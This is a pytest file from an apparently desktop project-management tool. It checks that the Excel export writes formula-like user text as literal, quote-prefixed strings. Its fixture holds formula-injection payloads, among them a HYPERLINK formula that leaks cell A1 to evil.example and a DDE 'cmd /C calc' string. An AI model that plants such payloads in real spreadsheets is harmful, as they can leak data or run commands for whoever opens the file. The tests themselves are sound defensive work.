"""Formula injection: user text that starts like a formula is written so Excel never evaluates it,
and reads back as exactly the same text."""

import re
import zipfile

import pytest
from openpyxl import load_workbook

from pmo_desktop.excel.export import export_workbook
from pmo_desktop.models import records
from pmo_desktop.models.registers import REGISTERS
from pmo_desktop.models.risks import Risk

HOSTILE = {
    "title": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "cause": "+SUM(1,2)",
    "event": "-2+3",
    "effect": "@SUM(A1:A9)",
    "trigger": "\t=cmd|' /C calc'!A0",
    "notes": "\r=1+1",
    "escalation_reason": "#N/A",
}


def sheet_xml(path, index: int) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read(f"xl/worksheets/sheet{index}.xml").decode()


@pytest.fixture
def hostile_export(store, tmp_path):
    with store.transaction() as s:
        risk = records.create_record(s, REGISTERS["risks"], {"title": "placeholder", "owner": "=EVIL()"})
        obj = s.get(Risk, risk.id)
        for name, text in HOSTILE.items():  # straight into the row, as a hostile import might leave it
            setattr(obj, name, text)
    return export_workbook(store, tmp_path / "out.xlsx", registers=["risks"])


def test_no_formula_element_is_written(hostile_export):
    xml = sheet_xml(hostile_export, 1)
    assert "<f>" not in xml and "<f " not in xml
    # each hostile text is a literal string cell
    assert xml.count('t="inlineStr"') > len(HOSTILE)
    lists_xml = sheet_xml(hostile_export, 3)  # the person "=EVIL()" in the dropdown list
    assert "=EVIL()" in lists_xml and "<f>" not in lists_xml


def test_hostile_text_reads_back_identical_and_quote_prefixed(hostile_export):
    ws = load_workbook(hostile_export)["Risk register"]
    header = [c.value for c in ws[1]]
    labels = {f.name: f.label for f in REGISTERS["risks"].fields}
    for name, text in HOSTILE.items():
        cell = ws.cell(2, header.index(labels[name]) + 1)
        expected = text.replace("\r", "\n")  # XML carries line breaks as LF
        assert cell.value == expected and cell.data_type == "s"
        assert cell.quotePrefix or expected.startswith("\n")
    owner = ws.cell(2, header.index("Owner") + 1)
    assert owner.value == "=EVIL()" and owner.data_type == "s" and owner.quotePrefix


def test_read_only_and_data_only_readers_see_text_not_formulas(hostile_export):
    wb = load_workbook(hostile_export, read_only=True, data_only=True)
    row = next(wb["Risk register"].iter_rows(min_row=2, max_row=2, values_only=True))
    assert HOSTILE["title"] in row and HOSTILE["cause"] in row and "#N/A" in row
    wb.close()


def test_plain_text_is_not_quote_prefixed(demo_store, tmp_path):
    ws = load_workbook(export_workbook(demo_store, tmp_path / "d.xlsx", registers="risks"))["Risk register"]
    assert not any(c.quotePrefix for row in ws.iter_rows(min_row=2) for c in row)
    assert re.search(r"<f>", sheet_xml(tmp_path / "d.xlsx", 1)) is None
